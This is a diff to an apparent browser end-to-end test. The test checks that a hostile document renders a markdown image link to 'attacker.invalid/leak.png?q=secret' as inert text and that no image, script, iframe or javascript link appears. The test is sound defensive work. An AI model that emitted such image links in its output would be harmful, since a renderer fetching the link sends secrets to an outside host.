@@ -62,9 +62,8 @@ def test_hostile_documents_make_no_request_and_show_as_text(
     page.goto(f"{url}/documents?document=notes/injected-1.md&tab=Documents")
     expect(main(page).get_by_role("tab", name="Passages")).to_be_visible(timeout=WORDS)
     main(page).get_by_role("tab", name="Passages").click()
-    expect(
-        main(page).get_by_text(re.compile(r"!\[logo\]\(http:\u2060?//attacker\.invalid/leak\.png\?q=secret\)")).last
-    ).to_be_visible()
+    shown = re.compile(r"!\[logo\]\(http:\u2060?//attacker\.invalid/leak\.png\?q=secret\)")
+    expect(main(page).get_by_text(shown).filter(visible=True).first).to_be_visible()
     assert main(page).locator("img[src*=attacker], iframe, script, a[href*=attacker], a[href*=javascript]").count() == 0
     assert strangers == []
 
